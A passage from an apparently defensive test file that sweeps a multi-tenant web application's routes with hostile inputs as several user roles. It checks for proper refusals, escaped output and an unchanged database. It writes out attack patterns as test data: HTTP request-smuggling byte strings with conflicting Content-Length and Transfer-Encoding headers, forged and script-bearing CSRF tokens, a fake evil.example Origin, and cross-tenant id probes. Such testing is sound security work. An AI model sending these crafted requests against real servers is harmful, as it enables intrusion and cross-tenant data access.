  if (ONLY) routes = routes.filter((r) => new RegExp(ONLY).test(`${r.method} ${r.pattern}`));
  catalogue = buildCatalogue();
  // another tenant, with its own admin
  const r = run(['init', '--db', srv.store, '--slug', 'other', '--name', '另一县']);
  assert.equal(r.status, 0, r.stderr);
  const pw = r.stdout.match(/initial password (\S+)/)[1];
  other = await login(srv, 'admin', pw, { base: T2 });
  assert.equal(other.status, 200, other.text);
  const ch = await api(srv, other, 'POST', '/api/v1/me/password', { current_password: pw, new_password: 'the second county phrase' });
  assert.equal(ch.status, 200, ch.text);
  for (const [role, name] of Object.entries(ROLE_LOGINS)) {
    sess[role] = await login(srv, name);
    assert.equal(sess[role].status, 200, `${role}: ${sess[role].text}`);
  }
  sess.admin2 = await login(srv, 'admin'); // the same user's other session
  // Ids of tenant 1's objects that tenant 2 does not have, by the path
  // segment before the parameter.
  const TABLE = { problems: 'problem', proposals: 'problem', claims: 'claim', batches: 'batch', users: 'app_user', panels: 'panel',
    evaluations: 'evaluation', practices: 'practice', notices: 'notice', objections: 'objection', supervisions: 'supervision',
    extensions: 'extension', comments: 'problem_comment', people: 'person', tolerances: 'tolerance', feedback: 'complaint',
    tokens: 'api_token', robots: 'robot', outbox: 'outbox', notifications: 'notification', promotions: 'promotion' };
  for (const [seg, table] of Object.entries(TABLE)) {
    const v = (await conn.query(`SELECT max(id) FROM ${table} WHERE tenant_id = 1 AND id NOT IN (SELECT id FROM ${table} WHERE tenant_id = 2)`)).trim();
    otherIds[seg] = v || '987654321';
  }
  otherIds.sha256 = (await conn.query('SELECT sha256 FROM evidence WHERE tenant_id = 1 LIMIT 1')).trim() || 'a'.repeat(64);
  otherIds.ref = (await conn.query('SELECT ref FROM complaint WHERE tenant_id = 1 LIMIT 1')).trim() || 'X';
  otherIds.tenants = '1';
});
after(async () => { conn?.close(); agent.destroy(); rmSync(clockFile, { force: true }); await srv?.stop(); });

const ACTORS = ['anonymous', 'admin', 'unit', 'cadre', 'evaluator', 'leader', 'other-tenant'];

// The request for route rt, input inp, as actor (index k for rotations).
function assemble(rt, o, actor, k) {
  const s = actor === 'anonymous' ? null : actor === 'other-tenant' ? other : sess[actor];
  // another tenant's admin, at home in its own tenant
  let base = actor === 'other-tenant' ? T2 : '';
  let why = o.why;
  // path parameters
  let path = rt.pattern;
  let pathBad = false;
  for (const p of rt.params) {
    let v;
    if (o.id === 'OTHER') {
      // tenant 1's real object, asked for in tenant 2
      const seg = rt.pattern.split('/').slice(0, rt.pattern.split('/').indexOf(`:${p}`)).pop();
      v = otherIds[p] || otherIds[seg] || '987654321';
      base = T2;
      if (otherIds[p] || otherIds[seg]) pathBad = p === 'id' || p === 'sha256' || p === 'ref';
    } else {
      v = o.id ?? ID_VALUES[k % ID_VALUES.length];
      pathBad = true;
    }
    path = path.replace(`:${p}`, encodeURIComponent(v));
  }
  if (pathBad && !why) why = 'path';
  if (o.pathSuffix) path += o.pathSuffix;
  if (o.pathPrefix) path = o.pathPrefix + path;
  if (o.query) path += (path.includes('?') ? '&' : '?') + o.query;
  path = base + path;
  // who, as the server will see it
  const inTenant = (x) => x && (x === other ? base === T2 : base === '');
  let cookieSess = s && !o.nocookie ? s : null;
  const effective = cookieSess && inTenant(cookieSess) ? cookieSess : null; // a session the server knows here
  const headers = { ...(o.headers || {}) };
  if (o.cookie) headers.Cookie = o.cookie;
  else if (cookieSess) headers.Cookie = cookieSess.cookie + (o.cookie2 ? `; ${sess.leader.cookie}` : '');
  let csrf = o.csrf || 'valid';
  let origin = o.origin;
  // Is the request refused whatever its body? Else make it so.
  const needsLogin = rt.flags.includes('login');
  const authHeader = !!o.headers?.Authorization && rt.api;
  let refusal = why;
  if (!rt.unsafe) refusal ||= 'read';
  if (!refusal && (authHeader)) refusal = 'login'; // a forged bearer or other scheme: 401
  if (!refusal && o.origin) refusal = 'csrf';
  if (!refusal && o.refused === 'origin') refusal = 'csrf';
  if (!refusal && needsLogin && (!effective || o.cookie)) refusal = 'login';
  if (!refusal && rt.flags.includes('csrf') && effective && !o.cookie && csrf !== 'valid') refusal = 'csrf';
  if (!refusal && rt.action === 'session.create') refusal = 'password';
  let forced = false;
  if (!refusal) {
    forced = true;
    if (effective && rt.flags.includes('csrf') && !o.cookie) { csrf = 'other'; refusal = 'csrf'; } else { origin = 'http://evil.example'; refusal = 'csrf'; }
  }
  const token = { valid: s?.csrf, other: sess.cadre.csrf === s?.csrf ? sess.unit.csrf : sess.cadre.csrf, 'same-user': sess.admin2.csrf,
    forged: 'A'.repeat(43), huge: 'B'.repeat(6000), script: XSS[0].replace(/[^\x20-\x7e]/g, ''), tenant2: s === other ? sess.admin.csrf : other.csrf, none: undefined, 'in-body-twice': undefined }[csrf];
  if (s && token && !o.nocookie) headers['X-CSRF-Token'] = token;
  if (origin) headers.Origin = origin;
  const body = o.body;
  if (body !== undefined) headers['Content-Type'] = o.ctype;
  return { method: rt.method, path, headers, body, why: refusal, forced, rawTarget: o.rawTarget, rawSmuggle: o.rawSmuggle,
    rawDoubleLength: o.rawDoubleLength, strict: rt.unsafe || pathBad || !!o.why && o.why !== 'path' };
}

function rawBytes(srv, q) {
  const hdrs = Object.entries(q.headers).map(([k, v]) => `${k}: ${v}\r\n`).join('');
  const host = `Host: 127.0.0.1:${srv.port}\r\n`;
  if (q.rawTarget) return Buffer.from(`${q.method} ${q.path.split('?')[0]}${q.rawTarget}x HTTP/1.1\r\n${host}${hdrs}Connection: close\r\n\r\n`);
  const body = q.body || Buffer.from('{}');
  if (q.rawSmuggle)
    return Buffer.concat([Buffer.from(`${q.method} ${q.path} HTTP/1.1\r\n${host}${hdrs.replace(/Content-Type[^\r]*\r\n/i, '')}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`), body]);
  return Buffer.concat([Buffer.from(`${q.method} ${q.path} HTTP/1.1\r\n${host}${hdrs.replace(/Content-Type[^\r]*\r\n/i, '')}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nContent-Length: ${body.length + 1}\r\nConnection: close\r\n\r\n`), body]);
}

// What the answer must be; a failure text or null.
function judge(q, a) {
  if (a.error) return `no answer (${a.error})`;
  if (a.status >= 500) return `${a.status}: ${a.text.slice(0, 300)}`;
  const ct = String(a.headers?.['content-type'] || '');
  if (/html/.test(ct)) for (const m of XSS_MARKERS) if (a.text.includes(m)) return `${a.status}: the payload ${m} is in the page unescaped`;
  if (q.strict) {
    const loginRedirect = a.status === 303 && q.method === 'GET' && /\/login(\?|$)/.test(String(a.headers?.location || ''));
    if (loginRedirect) return null;
    if (a.status < 400 || a.status > 499) return `${a.status} where a refusal (4xx) was due (${q.why})`;
    if (/json/.test(ct)) {
      let m;
      try { m = JSON.parse(a.text).error?.message; } catch { return `${a.status}: JSON error not parseable`; }
      if (!m) return `${a.status}: a JSON error without a message`;
    } else if (!a.text || a.text.length < 10) {
      if (q.method !== 'HEAD') return `${a.status}: an error without a message`;
    }
  }
  return null;
}

test('every route, every hostile input, every role: a refusal with a message, never a 5xx or a hang; nothing changes', async () => {
  if (!ONLY) assert.ok(routes.length > 200, `only ${routes.length} routes in the table`);
  assert.ok(catalogue.length >= 100, `only ${catalogue.length} inputs in the catalogue`);
  const names = await tables(conn, srv.store);
  assert.ok(names.length > 40, `only ${names.length} tables`);
  // The stored lights and the tallies counted from them are brought up to
  // date by the first read that needs them (domain/claim_light.c): do that
  // before the snapshot, so that what follows is the sweep's doing alone.
  for (const [path, who] of [['/api/v1/stats', null], [`${T2}/api/v1/stats`, null], ['/api/v1/region', sess.admin], [`${T2}/api/v1/region`, other]])
    assert.ok((await api(srv, who, 'GET', path)).status < 500, path);
  const before_ = await storeState(conn, srv.store, names);

  const jobs = function* () {
    let k = 0;
    for (const rt of routes)
      for (const inp of catalogue) {
        const o = asQuery(rt, inp, inp.fn(rt));
        if (o.body !== undefined && !Buffer.isBuffer(o.body)) o.body = Buffer.from(o.body);
        for (const actor of ACTORS) yield { rt, inp, o, actor, k: k++ };
      }
  };
  const it = jobs();
  const failures = [];
  const routeMs = new Map();
  const tally = { sent: 0, held: 0, forced: 0, status: {}, why: {} };
  const started = Date.now();
  let healthChecks = 0;
  async function worker() {
    for (let j = it.next(); !j.done; j = it.next()) {
      const { rt, inp, o, actor, k } = j.value;
      const q = assemble(rt, o, actor, k);
      const t0 = process.hrtime.bigint();
      const a = q.rawTarget || q.rawSmuggle || q.rawDoubleLength ? await sendRaw(srv, rawBytes(srv, q)) : await send(srv, q);
      const key = `${rt.method} ${rt.pattern}`;
      routeMs.set(key, (routeMs.get(key) || 0) + Number(process.hrtime.bigint() - t0) / 1e6);
      tally.sent++;
      tally.status[a.status] = (tally.status[a.status] || 0) + 1;
      tally.why[q.why] = (tally.why[q.why] || 0) + 1;
      if (q.forced) tally.forced++;
      const bad = judge(q, a);
      if (bad) failures.push(`${rt.method} ${rt.pattern} [${inp.name}] as ${actor} -> ${q.method} ${q.path.slice(0, 120)}: ${bad}`);
      else tally.held++;
      if (tally.sent % 5000 === 0) {
        healthChecks++;
        const h = await send(srv, { method: 'GET', path: '/healthz', headers: {} });
        if (h.status !== 200) failures.push(`after ${tally.sent} requests /healthz answered ${h.status} ${h.error || ''}`);
      }
    }
  }
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  const secs = (Date.now() - started) / 1000;

  const h = await send(srv, { method: 'GET', path: '/healthz', headers: {} });
  assert.equal(h.status, 200, `the server is not healthy after the sweep: ${h.error || h.text}`);
  assert.equal(srv.child.exitCode, null, 'the server is still running');
  for (const role of Object.keys(ROLE_LOGINS)) {
    const me = await api(srv, sess[role], 'GET', '/api/v1/me');
    if (me.status !== 200) failures.push(`${role}'s session did not outlive the sweep: ${me.status}`);
  }
  const after_ = await storeState(conn, srv.store, names);
  const changed = [];
  for (const t of names) {
    if (!COUNT_SKIP.has(t) && before_.counts[t] !== after_.counts[t]) changed.push(`${t}: ${before_.counts[t]} rows before, ${after_.counts[t]} after`);
    if (!CONTENT_SKIP.has(t) && before_.contents[t] !== after_.contents[t]) {
      const b = new Set(before_.contents[t].split('\n')), a = new Set(after_.contents[t].split('\n'));
      changed.push(`${t}: contents changed: before ${[...b].filter((l) => !a.has(l)).slice(0, 5).join(' / ')}; after ${[...a].filter((l) => !b.has(l)).slice(0, 5).join(' / ')}`);
    }
  }
  console.log(`hostile sweep: ${routes.length} routes x ${catalogue.length} inputs x ${ACTORS.length} actors = ${tally.sent} requests in ${secs.toFixed(1)} s` +
    ` (${(tally.sent / secs).toFixed(0)}/s); held ${tally.held}, failed ${failures.length}; ${tally.forced} sent with a wrong CSRF token or Origin` +
    ` because nothing else in them was certain to be refused; ${healthChecks} health checks; ${retries} sent again with Expect: 100-continue; ${names.length} tables compared`);
  console.log(`  by status: ${JSON.stringify(tally.status)}`);
  console.log(`  slowest routes (s of answers, 8 at once): ${[...routeMs].sort((x, y) => y[1] - x[1]).slice(0, 12).map(([k, ms]) => `${k} ${(ms / 1000).toFixed(1)}`).join(', ')}`);
  console.log(`  by reason refused: ${JSON.stringify(tally.why)}`);
  if (failures.length) {
    // grouped by route and input, with how many actors met each
    const groups = new Map();
    for (const f of failures) { const k = f.replace(/ as \S+ -> .*?: /, ': ').slice(0, 300); groups.set(k, (groups.get(k) || 0) + 1); }
    console.log([...groups].slice(0, 150).map(([k, n]) => `${n}x ${k}`).join('\n'));
  }
  assert.deepEqual(changed, [], 'the store changed');
  assert.equal(failures.length, 0, `${failures.length} answers broke the rules, the first:\n${failures.slice(0, 40).join('\n')}`);
  assert.equal(tally.sent, routes.length * catalogue.length * ACTORS.length);
  assert.ok(!ONLY, `JIEBANG_HOSTILE_ONLY=${ONLY}: ${routes.length} routes swept, not the whole table`);
});
